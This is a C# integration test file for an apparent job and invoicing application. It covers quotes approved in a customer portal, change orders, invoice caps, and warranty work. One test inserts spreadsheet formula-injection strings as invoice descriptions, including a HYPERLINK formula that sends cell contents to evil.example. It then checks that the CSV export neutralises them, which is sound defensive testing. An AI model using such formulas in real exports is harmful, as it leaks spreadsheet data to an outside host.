using Rapport.Features.Promises;
using System.Net;
using System.Text.Json;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Rapport.Features.Agents;
using Rapport.Features.ApiTokens;
using Rapport.Features.Jobs;
using Rapport.Features.Mail;
using Rapport.Features.Portal;
using Rapport.Features.Tickets;
using Rapport.Tests.Infrastructure;

namespace Rapport.Tests.Features.Jobs;

/// <summary>The whole promise: requirements → quote → the customer approves in the portal (plain form posts) → change
/// order → invoices up to what was accepted and not a cent more → completion → warranty work that is free.</summary>
public abstract class JobJourneyTests(RapportFactory app) : DatabaseTests(app)
{
    /// <summary>Today on the fixture's clock, which tests of one class share and move forward.</summary>
    private DateOnly Today => DateOnly.FromDateTime(App.Now);

    private sealed record Desk(HttpClient Api, Agent Agent, string Email, TicketDetails Ticket);

    private async Task<Desk> OpenTicketAsync(string? email = null)
    {
        await MailboxAsync();
        var agent = await App.CreateAgentAsync(AgentRoles.Agent);
        var api = await App.CreateTokenClientAsync(ApiTokenScope.Write, agent, Ct);
        email ??= $"test+{Guid.NewGuid():N}@example.com";
        var response = await api.PostJsonAsync("/api/v1/tickets", new
        {
            subject = "A new garden fence",
            customer = new { email, name = "Ann Example" },
            message = new { text = "We need 12 m of fence along the back of the garden, and maybe a gate." },
        });
        await response.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var ticket = await response.ReadAsync<TicketDetails>();
        return new Desk(api, agent, email, ticket);
    }

    /// <summary>A mailbox that can send, so notices are queued in the outbox (nothing is delivered: background sending is off in tests).</summary>
    private async Task MailboxAsync()
    {
        await using (var db = App.CreateDbContext())
        {
            if (await db.Mailboxes.AnyAsync(m => m.SmtpHost != null, Ct))
            {
                return;
            }
        }
        var name = $"desk{Guid.NewGuid():N}"[..16];
        await App.Services.GetRequiredService<SaveMailbox>().HandleAsync(null, new SaveMailbox.Request
        {
            Name = name,
            Address = $"{name}@shop.example",
            Smtp = new SaveMailbox.SmtpSettings { Host = "127.0.0.1", Port = 9, Security = MailSecurity.None },
        }, Actor.System, Ct);
    }

    private static async Task<JobDetails> OpenJobAsync(Desk desk)
    {
        var response = await desk.Api.PostJsonAsync("/api/v1/jobs", new { ticketId = desk.Ticket.Id });
        await response.ShouldHaveStatusAsync(HttpStatusCode.Created);
        return await response.ReadAsync<JobDetails>();
    }

    private static object FenceQuote(DateOnly day0, IEnumerable<long> requirementIds) => new
    {
        currency = "EUR",
        lines = new object[]
        {
            new { description = "Fence panels, 1 m", quantity = 12, unitPrice = 45.50m, taxRate = 0.19m },
            new { description = "Labour (hours)", quantity = 6.5m, unitPrice = 38.00m, taxRate = 0.19m },
        },
        promisedStartOn = day0.AddDays(7),
        promisedDeliveryOn = day0.AddDays(11),
        validUntil = day0.AddDays(29),
        terms = "Half on approval, half on completion.",
        requirementIds,
    };

    private static async Task<QuoteDetails> DraftAndSendAsync(Desk desk, JobDetails job, object quote)
    {
        var drafted = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes", quote);
        await drafted.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var draft = await drafted.ReadAsync<QuoteDetails>();
        var sent = await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/quotes/{draft.Id}/send", null, Ct);
        await sent.ShouldHaveStatusAsync(HttpStatusCode.OK);
        var result = await sent.ReadAsync<SendQuote.Result>();
        result.Mailed.ShouldBeTrue();
        return result.Quote;
    }

    /// <summary>A browser without JavaScript, signed in to the portal by a magic link.</summary>
    private async Task<HttpClient> PortalAsync(long customerId)
    {
        var path = await App.Services.GetRequiredService<PortalSessions>().CreateLinkAsync(customerId, null, Ct);
        var browser = App.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false, HandleCookies = true });
        (await browser.GetAsync(path, Ct)).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        return browser;
    }

    private static async Task<JobDetails> JobAsync(Desk desk, long id) => await (await desk.Api.GetAsync($"/api/v1/jobs/{id}", Ct)).ReadAsync<JobDetails>();

    private static async Task<string> ProblemCodeAsync(HttpResponseMessage response, HttpStatusCode status)
    {
        await response.ShouldHaveStatusAsync(status);
        using var body = JsonDocument.Parse(await response.Content.ReadAsStringAsync(Ct));
        return body.RootElement.GetProperty("code").GetString()!;
    }

    private static object Line(string description, decimal unitPrice, decimal taxRate = 0m, long? warrantyTicketId = null, string? overrideReason = null) =>
        new { description, quantity = 1, unitPrice, taxRate, warrantyTicketId, overrideReason };

    [Fact]
    public async Task Journey_QuoteApprovedInPortal_ChangeOrder_InvoicesGuarded_Completed_WarrantyFreeAndRoutedToOwner()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        (await desk.Api.PatchJsonAsync($"/api/v1/tickets/{desk.Ticket.Id}", new { ownerId = desk.Agent.Id })).EnsureSuccessStatusCode();
        var job = await OpenJobAsync(desk);
        job.OwnerId.ShouldBe(desk.Agent.Id);

        // What the customer wants: one taken from their message with one click, one typed.
        var fromMessage = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/requirements",
            new { text = "12 m of fence along the back of the garden", messageId = desk.Ticket.Messages[0].Id });
        await fromMessage.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var typed = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/requirements", new { text = "maybe a gate" });
        var requirements = new[] { await fromMessage.ReadAsync<RequirementDetails>(), await typed.ReadAsync<RequirementDetails>() };

        // The quote: 12 × 45.50 = 546.00 + 19 % 103.74; 6.5 × 38.00 = 247.00 + 46.93; total 943.67.
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, [requirements[0].Id]));
        quote.Totals.ShouldBe(new TotalsDetails(793.00m, 150.67m, 943.67m));
        quote.Status.ShouldBe(QuoteStatus.Sent);
        await using (var db = App.CreateDbContext())
        {
            (await db.OutboundMail.CountAsync(m => m.Recipient == desk.Email, Ct)).ShouldBe(1, "the customer is mailed a link to the quote");
        }
        (await JobAsync(desk, job.Id)).Requirements.Select(r => r.Status).ShouldBe([RequirementStatus.Quoted, RequirementStatus.Open]);

        // The customer reads it in the portal and approves by typing their name.
        var portal = await PortalAsync(desk.Ticket.Customer.Id);
        var ticketPage = await portal.GetStringAsync($"/portal/tickets/{desk.Ticket.Id}", Ct);
        ticketPage.ShouldContain($"/portal/quotes/{quote.Id}");
        var page = await portal.GetStringAsync($"/portal/quotes/{quote.Id}", Ct);
        page.ShouldContain("EUR 943.67");
        page.ShouldContain("jobs");   // the print stylesheet
        App.Time.Advance(TimeSpan.FromHours(2));
        var approved = await Http.SubmitFormAsync(portal, $"/portal/quotes/{quote.Id}", "approve-quote", new() { ["name"] = "Ann Example" });
        approved.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await approved.Content.ReadAsStringAsync(Ct)).ShouldContain("the quote is approved");

        job = await JobAsync(desk, job.Id);
        var locked = job.Quotes.Single();
        locked.Status.ShouldBe(QuoteStatus.Approved);
        locked.DecidedBy.ShouldBe("Ann Example");
        locked.DecidedAt.ShouldBe(App.Now);
        job.Money.Accepted.ShouldBe(943.67m);
        job.Commitments.Select(c => (c.Kind, c.DueOn, c.Status)).ShouldBe(
            [(CommitmentKind.Start, day0.AddDays(7), CommitmentStatus.Pending), (CommitmentKind.Delivery, day0.AddDays(11), CommitmentStatus.Pending)]);
        // The dates are promises in the ledger too, the job owner's to keep.
        (await JobPromisesAsync(desk.Ticket.Id)).ShouldBe(
            [(PromiseKind.Start, PromiseStatus.Open, desk.Agent.Id), (PromiseKind.Delivery, PromiseStatus.Open, desk.Agent.Id)]);

        // Approved means locked: changing it takes a new version the customer approves again.
        var edit = await desk.Api.PutJsonAsync($"/api/v1/jobs/{job.Id}/quotes/{quote.Id}", FenceQuote(day0, []));
        (await ProblemCodeAsync(edit, HttpStatusCode.Conflict)).ShouldBe("quote-locked");

        // Extra scope is a change order; it counts once the customer approves it in the portal.
        var proposed = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/change-orders", new
        {
            lines = new[] { Line("Garden gate", 120.00m, 0.19m) },
            reason = "You asked for a gate as well.",
            newDeliveryOn = day0.AddDays(14),
        });
        await proposed.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var order = (await proposed.ReadAsync<ProposeChangeOrder.Result>()).ChangeOrder;
        order.PriceDifference.ShouldBe(142.80m);
        (await JobAsync(desk, job.Id)).Money.Accepted.ShouldBe(943.67m, "a proposed change order does not count yet");
        var orderApproved = await Http.SubmitFormAsync(portal, $"/portal/change-orders/{order.Id}", "approve-change-order", new() { ["name"] = "Ann Example" });
        (await orderApproved.Content.ReadAsStringAsync(Ct)).ShouldContain("the change is approved");
        job = await JobAsync(desk, job.Id);
        job.Money.Accepted.ShouldBe(1086.47m);
        job.Commitments.Where(c => c.Status == CommitmentStatus.Pending).Select(c => (c.Kind, c.DueOn))
            .ShouldBe([(CommitmentKind.Start, day0.AddDays(7)), (CommitmentKind.Delivery, day0.AddDays(14))]);
        (await JobPromisesAsync(desk.Ticket.Id)).ShouldBe(
            [(PromiseKind.Start, PromiseStatus.Open, desk.Agent.Id), (PromiseKind.Delivery, PromiseStatus.Cancelled, desk.Agent.Id),
             (PromiseKind.Delivery, PromiseStatus.Open, desk.Agent.Id)], "the old delivery date gave way to the one the customer approved");

        // Invoices: a cent above the accepted total is refused, naming the gap; the exact total goes through; then not a cent more.
        var tooMuch = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("Fence and gate", 913.00m, 0.19m), Line("Rounding", 0.01m) } });
        (await ProblemCodeAsync(tooMuch, HttpStatusCode.UnprocessableEntity)).ShouldBe("invoice-exceeds-accepted");
        var gap = JsonDocument.Parse(await tooMuch.Content.ReadAsStringAsync(Ct)).RootElement;
        gap.GetProperty("gap").GetProperty("gap").GetDecimal().ShouldBe(0.01m);
        gap.GetProperty("changeOrder").GetString().ShouldBe($"/api/v1/jobs/{job.Id}/change-orders");
        gap.GetProperty("detail").GetString()!.ShouldContain("EUR 0.01 more than the customer accepted");

        var exact = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("Fence and gate", 913.00m, 0.19m) } });
        await exact.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var invoice = await exact.ReadAsync<InvoiceDetails>();
        invoice.Total.ShouldBe(1086.47m);
        var agentBrowser = await App.SignedInClientAsync(desk.Agent);
        var printable = await agentBrowser.GetStringAsync($"/jobs/{job.Id}/invoices/{invoice.Id}", Ct);
        printable.ShouldContain("invoice 1");
        printable.ShouldContain("EUR 1,086.47");
        var oneCent = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("One more screw", 0.01m) } });
        (await ProblemCodeAsync(oneCent, HttpStatusCode.UnprocessableEntity)).ShouldBe("invoice-exceeds-accepted");
        var csv = await desk.Api.GetStringAsync(exact.Headers.Location, Ct);
        csv.ShouldContain("Fence and gate,1,913.00,0.19,913.00,173.47,1086.47,EUR");

        // The business eats the cost of an extra screw instead.
        var absorbed = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/overruns", new { amount = 0.01m, reason = "Extra screw, our estimate" });
        await absorbed.ShouldHaveStatusAsync(HttpStatusCode.Created);

        // Work starts on the promised Monday and is done before the promised delivery: both commitments kept.
        App.Time.Advance(TimeSpan.FromDays(7));
        (await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/start", null, Ct)).EnsureSuccessStatusCode();
        App.Time.Advance(TimeSpan.FromDays(3));
        var completed = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/complete", new { warrantyDays = 90 });
        await completed.ShouldHaveStatusAsync(HttpStatusCode.OK);
        job = await completed.ReadAsync<JobDetails>();
        job.Status.ShouldBe(JobStatus.Completed);
        job.WarrantyEndsAt.ShouldBe(App.Now.AddDays(90));
        job.Commitments.Where(c => c.Status != CommitmentStatus.Superseded).Select(c => (c.Kind, c.Status, c.MetOn))
            .ShouldBe([(CommitmentKind.Start, CommitmentStatus.Kept, day0.AddDays(7)), (CommitmentKind.Delivery, CommitmentStatus.Kept, day0.AddDays(10))]);
        (await JobPromisesAsync(desk.Ticket.Id)).ShouldBe(
            [(PromiseKind.Start, PromiseStatus.Kept, desk.Agent.Id), (PromiseKind.Delivery, PromiseStatus.Cancelled, desk.Agent.Id),
             (PromiseKind.Delivery, PromiseStatus.Kept, desk.Agent.Id)]);
        job.Requirements.Select(r => r.Status).ShouldBe([RequirementStatus.Delivered, RequirementStatus.Open]);

        // A month later the customer complains; the new ticket is unassigned until linked to the job.
        App.Time.Advance(TimeSpan.FromDays(30));
        var complaint = await desk.Api.PostJsonAsync("/api/v1/tickets", new
        {
            subject = "The gate does not close",
            customer = new { email = desk.Email },
            message = new { text = "The new gate will not latch." },
        });
        var warrantyTicket = await complaint.ReadAsync<TicketDetails>();
        warrantyTicket.Owner.ShouldBeNull();
        var colleague = await App.CreateTokenClientAsync(ApiTokenScope.Write, await App.CreateAgentAsync(AgentRoles.Agent), Ct);
        var linked = await colleague.PostJsonAsync($"/api/v1/jobs/{job.Id}/warranty-tickets", new { ticketId = warrantyTicket.Id });
        await linked.ShouldHaveStatusAsync(HttpStatusCode.OK);
        (await linked.ReadAsync<JobDetails>()).WarrantyTicketIds.ShouldBe([warrantyTicket.Id]);
        var routed = await (await desk.Api.GetAsync($"/api/v1/tickets/{warrantyTicket.Id}", Ct)).ReadAsync<TicketDetails>();
        routed.Owner!.Id.ShouldBe(desk.Agent.Id, "warranty work goes to the job's owner");

        // Rework is free: billing it needs an explicit override with a reason.
        var billed = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("Adjust gate latch", 40.00m, 0.19m, warrantyTicket.Id) } });
        (await ProblemCodeAsync(billed, HttpStatusCode.Conflict)).ShouldBe("warranty-non-billable");

        var report = await (await desk.Api.GetAsync("/api/v1/reports/jobs", Ct)).ReadAsync<JobsApi.JobsReport>();
        report.Overruns.ShouldContain(o => o.JobId == job.Id && o.Absorbed == 0.01m && o.Currency == "EUR");
        report.CommitmentsKept.ShouldBeGreaterThanOrEqualTo(2);
    }

    /// <summary>A job with an approved quote (943.67 EUR), approved in the portal.</summary>
    private async Task<(Desk Desk, JobDetails Job, QuoteDetails Quote, HttpClient Portal)> ApprovedJobAsync(DateOnly day0)
    {
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));
        var portal = await PortalAsync(desk.Ticket.Customer.Id);
        var approved = await Http.SubmitFormAsync(portal, $"/portal/quotes/{quote.Id}", "approve-quote", new() { ["name"] = "Ann Example" });
        (await approved.Content.ReadAsStringAsync(Ct)).ShouldContain("the quote is approved");
        return (desk, await JobAsync(desk, job.Id), quote, portal);
    }

    /// <summary>The quote, its portal link and its mail commit together (issue 24): when the outbox refuses the mail (here a
    /// trigger in the database, so the failure is the database's own, inside the transaction), the quote stays a draft
    /// and no link is left behind; sent again, all three appear.</summary>
    [Fact]
    public async Task SendQuote_OutboxRefusesTheMail_QuoteStaysADraftWithoutALink()
    {
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var drafted = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes", FenceQuote(Today, []));
        await drafted.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var draft = await drafted.ReadAsync<QuoteDetails>();
        var trigger = $"refuse_{Guid.NewGuid():N}";

        await RefuseMailToAsync(trigger, desk.Email);
        HttpResponseMessage refused;
        try
        {
            refused = await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/quotes/{draft.Id}/send", null, Ct);
        }
        finally
        {
            await AllowMailAgainAsync(trigger);
        }

        ((int)refused.StatusCode).ShouldBe(500);
        (await JobAsync(desk, job.Id)).Quotes.Single(q => q.Id == draft.Id).Status.ShouldBe(QuoteStatus.Draft);
        await using (var db = App.CreateDbContext())
        {
            (await db.OutboundMail.CountAsync(m => m.Recipient == desk.Email, Ct)).ShouldBe(0);
            (await db.PortalLinks.CountAsync(l => l.TicketId == desk.Ticket.Id, Ct)).ShouldBe(0, "no link without its mail");
        }

        var sent = await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/quotes/{draft.Id}/send", null, Ct);

        await sent.ShouldHaveStatusAsync(HttpStatusCode.OK);
        (await sent.ReadAsync<SendQuote.Result>()).Mailed.ShouldBeTrue();
        (await JobAsync(desk, job.Id)).Quotes.Single(q => q.Id == draft.Id).Status.ShouldBe(QuoteStatus.Sent);
        await using (var db = App.CreateDbContext())
        {
            (await db.OutboundMail.CountAsync(m => m.Recipient == desk.Email, Ct)).ShouldBe(1);
            (await db.PortalLinks.CountAsync(l => l.TicketId == desk.Ticket.Id, Ct)).ShouldBe(1);
        }
    }

    /// <summary>A trigger that makes the database refuse outbox rows to one address.</summary>
    private async Task RefuseMailToAsync(string trigger, string recipient)
    {
        await using var db = App.CreateDbContext();
        string[] sql = App.Provider == Rapport.Infrastructure.DatabaseProvider.Sqlite
            ? [$"""CREATE TRIGGER "{trigger}" BEFORE INSERT ON "OutboundMail" WHEN NEW."Recipient" = '{recipient}' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END"""]
            :
            [
                $"""CREATE FUNCTION "{trigger}"() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused by the test'; END $$""",
                $"""CREATE TRIGGER "{trigger}" BEFORE INSERT ON "OutboundMail" FOR EACH ROW WHEN (NEW."Recipient" = '{recipient}') EXECUTE FUNCTION "{trigger}"()""",
            ];
        foreach (var statement in sql)
        {
            await db.Database.ExecuteSqlRawAsync(statement, Ct);
        }
    }

    private async Task AllowMailAgainAsync(string trigger)
    {
        await using var db = App.CreateDbContext();
        string[] sql = App.Provider == Rapport.Infrastructure.DatabaseProvider.Sqlite
            ? [$"""DROP TRIGGER "{trigger}" """]
            : [$"""DROP TRIGGER "{trigger}" ON "OutboundMail" """, $"""DROP FUNCTION "{trigger}"() """];
        foreach (var statement in sql)
        {
            await db.Database.ExecuteSqlRawAsync(statement, Ct);
        }
    }

    [Fact]
    public async Task ApprovalByPhone_IsRecordedWithHowAndByWhom_AndLocksTheQuoteAsInThePortal()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));

        var missing = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes/{quote.Id}/decision", new { approve = true, name = "Ann Example", via = " " });
        await missing.ShouldHaveStatusAsync(HttpStatusCode.BadRequest);
        (await missing.Content.ReadAsStringAsync(Ct)).ShouldContain("how the customer answered");

        var recorded = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes/{quote.Id}/decision", new { approve = true, name = "Ann Example", via = "phone" });
        await recorded.ShouldHaveStatusAsync(HttpStatusCode.OK);
        var approved = (await recorded.ReadAsync<JobDetails>()).Quotes.Single();
        approved.Status.ShouldBe(QuoteStatus.Approved);
        approved.DecidedBy!.ShouldStartWith("Ann Example (by phone, recorded by ");
        (await JobPromisesAsync(desk.Ticket.Id)).Select(p => (p.Kind, p.Status)).ShouldBe([(PromiseKind.Start, PromiseStatus.Open), (PromiseKind.Delivery, PromiseStatus.Open)]);
        var again = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes/{quote.Id}/decision", new { approve = false, name = "Ann Example", via = "phone", reason = "Changed my mind" });
        again.IsSuccessStatusCode.ShouldBeFalse("an approved quote is locked");
    }

    [Fact]
    public async Task Quote_RevisedAfterApproval_CountsOnlyOnceTheNewVersionIsApproved()
    {
        var day0 = Today;
        var (desk, job, quote, portal) = await ApprovedJobAsync(day0);

        var revised = await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/quotes/{quote.Id}/revise", null, Ct);
        await revised.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var draft = await revised.ReadAsync<QuoteDetails>();
        draft.Version.ShouldBe(2);
        draft.Status.ShouldBe(QuoteStatus.Draft);
        var cheaper = new
        {
            currency = "EUR",
            lines = new[] { Line("Fence, all in", 700.00m, 0.19m) },
            promisedStartOn = day0.AddDays(7),
            promisedDeliveryOn = day0.AddDays(12),
            validUntil = day0.AddDays(29),
        };
        (await desk.Api.PutJsonAsync($"/api/v1/jobs/{job.Id}/quotes/{draft.Id}", cheaper)).EnsureSuccessStatusCode();
        (await portal.GetStringAsync($"/portal/quotes/{draft.Id}", Ct)).ShouldContain("Not found", customMessage: "drafts stay with the team");
        (await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/quotes/{draft.Id}/send", null, Ct)).EnsureSuccessStatusCode();
        (await JobAsync(desk, job.Id)).Money.Accepted.ShouldBe(943.67m, "until the customer approves v2, v1 stands");

        await Http.SubmitFormAsync(portal, $"/portal/quotes/{draft.Id}", "approve-quote", new() { ["name"] = "Ann Example" });

        job = await JobAsync(desk, job.Id);
        job.Quotes.Select(q => (q.Version, q.Status)).ShouldBe([(1, QuoteStatus.Superseded), (2, QuoteStatus.Approved)]);
        job.Money.Accepted.ShouldBe(833.00m);
        job.Commitments.Where(c => c.Status == CommitmentStatus.Pending).Select(c => c.DueOn).ShouldBe([day0.AddDays(7), day0.AddDays(12)]);
    }

    [Fact]
    public async Task Invoice_TwoAtOnceThatFitOnlyAlone_OneIsRefused()
    {
        var day0 = Today;
        var (desk, job, _, _) = await ApprovedJobAsync(day0);

        var responses = await Task.WhenAll(Enumerable.Range(0, 2).Select(_ =>
            desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("Half and a bit", 500.00m) } })));

        responses.Count(r => r.StatusCode == HttpStatusCode.Created).ShouldBe(1);
        responses.Count(r => r.StatusCode is HttpStatusCode.Conflict or HttpStatusCode.UnprocessableEntity).ShouldBe(1);
        (await JobAsync(desk, job.Id)).Money.Invoiced.ShouldBe(500.00m);
    }

    /// <summary>Line descriptions are typed by people and end up in a spreadsheet: one that looks like a formula is written as
    /// text (a leading apostrophe, quoted), while the app's own negative amounts stay numbers.</summary>
    [Fact]
    public async Task InvoiceCsv_DescriptionsLikeFormulas_AreGuarded_NegativeAmountsStayNumbers()
    {
        var (desk, job, _, _) = await ApprovedJobAsync(Today);
        var raised = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new
        {
            lines = new[]
            {
                Line("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", 500.00m),
                Line("@SUM(1)", 100.00m),
                Line("-2+3; loyalty discount", -10.00m),
                Line("+1 spare fuse", 1.00m),
            },
        });
        await raised.ShouldHaveStatusAsync(HttpStatusCode.Created);

        var response = await desk.Api.GetAsync(raised.Headers.Location, Ct);

        await response.ShouldHaveStatusAsync(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.ToString().ShouldBe("text/csv; charset=utf-8");
        (await response.Content.ReadAsStringAsync(Ct)).Split("\r\n").ShouldBe(
        [
            "description,quantity,unit_price,tax_rate,net,tax,total,currency",
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",1,500.00,0,500.00,0.00,500.00,EUR",
            "\"'@SUM(1)\",1,100.00,0,100.00,0.00,100.00,EUR",
            "\"'-2+3; loyalty discount\",1,-10.00,0,-10.00,0.00,-10.00,EUR",
            "\"'+1 spare fuse\",1,1.00,0,1.00,0.00,1.00,EUR",
            "Total,,,,,,591.00,EUR",
            "",
        ]);
    }

    [Fact]
    public async Task Warranty_LineWithOverrideReason_IsBilledWithinTheAcceptedTotal()
    {
        var day0 = Today;
        var (desk, job, _, _) = await ApprovedJobAsync(day0);
        (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/complete", new { warrantyDays = 60 })).EnsureSuccessStatusCode();
        var later = await (await desk.Api.PostJsonAsync("/api/v1/tickets", new
        {
            subject = "Paint the fence too?",
            customer = new { email = desk.Email },
            message = new { text = "Could you also paint it?" },
        })).ReadAsync<TicketDetails>();
        (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/warranty-tickets", new { ticketId = later.Id })).EnsureSuccessStatusCode();

        var overridden = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new
        {
            lines = new[] { Line("Painting (not a defect)", 100.00m, 0.19m, later.Id, "New work the customer asked for, not rework") },
        });

        await overridden.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var invoice = await overridden.ReadAsync<InvoiceDetails>();
        invoice.Lines.Single().OverrideReason.ShouldBe("New work the customer asked for, not rework");
        invoice.Total.ShouldBe(119.00m);
        var again = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/warranty-tickets", new { ticketId = later.Id });
        (await ProblemCodeAsync(again, HttpStatusCode.Conflict)).ShouldBe("already-linked");
    }

    [Fact]
    public async Task Requirement_MarkedDropped_AndPartnerWithoutName_GetsAFieldError()
    {
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var requirement = await (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/requirements", new { text = "a pond" })).ReadAsync<RequirementDetails>();

        var dropped = await desk.Api.PatchJsonAsync($"/api/v1/jobs/{job.Id}/requirements/{requirement.Id}", new { status = "dropped" });

        await dropped.ShouldHaveStatusAsync(HttpStatusCode.OK);
        (await dropped.ReadAsync<JobDetails>()).Requirements.Single().Status.ShouldBe(RequirementStatus.Dropped);
        var again = await desk.Api.PostJsonAsync("/api/v1/jobs", new { ticketId = desk.Ticket.Id });
        await again.ShouldHaveStatusAsync(HttpStatusCode.OK);
        (await again.ReadAsync<JobDetails>()).Id.ShouldBe(job.Id, "a ticket has one job");
        var partner = await desk.Api.PostJsonAsync("/api/v1/partners", new { name = "" });
        await partner.ShouldHaveStatusAsync(HttpStatusCode.BadRequest);
        (await partner.Content.ReadAsStringAsync(Ct)).ShouldContain("name");
    }

    [Fact]
    public async Task ChangeOrderDeclined_DoesNotCount_AndLateDelivery_BreaksThePromise()
    {
        var day0 = Today;
        var (desk, job, _, portal) = await ApprovedJobAsync(day0);
        var order = (await (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/change-orders", new
        {
            lines = new[] { Line("Second gate", 120.00m, 0.19m) },
            reason = "A second gate at the side.",
        })).ReadAsync<ProposeChangeOrder.Result>()).ChangeOrder;

        var declined = await Http.SubmitFormAsync(portal, $"/portal/change-orders/{order.Id}", "decline-change-order",
            new() { ["name"] = "Ann Example", ["reason"] = "One gate is enough." });

        (await declined.Content.ReadAsStringAsync(Ct)).ShouldContain("The change is declined");
        job = await JobAsync(desk, job.Id);
        job.ChangeOrders.Single().Status.ShouldBe(ChangeOrderStatus.Declined);
        job.Money.Accepted.ShouldBe(943.67m);
        var decline = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/decline", new { reason = "Changed our mind" });
        (await ProblemCodeAsync(decline, HttpStatusCode.Conflict)).ShouldBe("job-accepted");

        // Delivery was promised for day 11; the work is done on day 12.
        App.Time.Advance(TimeSpan.FromDays(12));
        var completed = await (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/complete", new { warrantyDays = 0 })).ReadAsync<JobDetails>();

        completed.Commitments.Single(c => c.Kind == CommitmentKind.Delivery).Status.ShouldBe(CommitmentStatus.Broken);
        completed.Commitments.Single(c => c.Kind == CommitmentKind.Start).Status.ShouldBe(CommitmentStatus.Broken, "work never started separately, so it started on completion");
        (await JobPromisesAsync(job.TicketId)).Select(p => p.Status).ShouldBe([PromiseStatus.Broken, PromiseStatus.Broken]);
        var report = await (await desk.Api.GetAsync("/api/v1/reports/jobs", Ct)).ReadAsync<JobsApi.JobsReport>();
        report.CommitmentsBroken.ShouldBeGreaterThanOrEqualTo(2);
        report.ChangeOrdersDeclined.ShouldBeGreaterThanOrEqualTo(1);
    }

    [Fact]
    public async Task Warranty_TicketAfterTheWarrantyEnded_IsRefused()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));
        var portal = await PortalAsync(desk.Ticket.Customer.Id);
        await Http.SubmitFormAsync(portal, $"/portal/quotes/{quote.Id}", "approve-quote", new() { ["name"] = "Ann" });
        (await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/complete", new { warrantyDays = 30 })).EnsureSuccessStatusCode();
        App.Time.Advance(TimeSpan.FromDays(31));
        var late = await (await desk.Api.PostJsonAsync("/api/v1/tickets", new
        {
            subject = "Fence leaning",
            customer = new { email = desk.Email },
            message = new { text = "It leans now." },
        })).ReadAsync<TicketDetails>();

        var linked = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/warranty-tickets", new { ticketId = late.Id });

        (await ProblemCodeAsync(linked, HttpStatusCode.Conflict)).ShouldBe("warranty-expired");
    }

    [Fact]
    public async Task Quote_DeclinedInPortal_IsRecordedWithReasonAndCannotBeApprovedAfterwards()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));
        var portal = await PortalAsync(desk.Ticket.Customer.Id);

        var declined = await Http.SubmitFormAsync(portal, $"/portal/quotes/{quote.Id}", "decline-quote",
            new() { ["name"] = "Ann Example", ["reason"] = "Too expensive for us this year." });

        (await declined.Content.ReadAsStringAsync(Ct)).ShouldContain("The quote is declined");
        job = await JobAsync(desk, job.Id);
        job.Quotes.Single().Status.ShouldBe(QuoteStatus.Declined);
        job.Quotes.Single().DeclineReason.ShouldBe("Too expensive for us this year.");
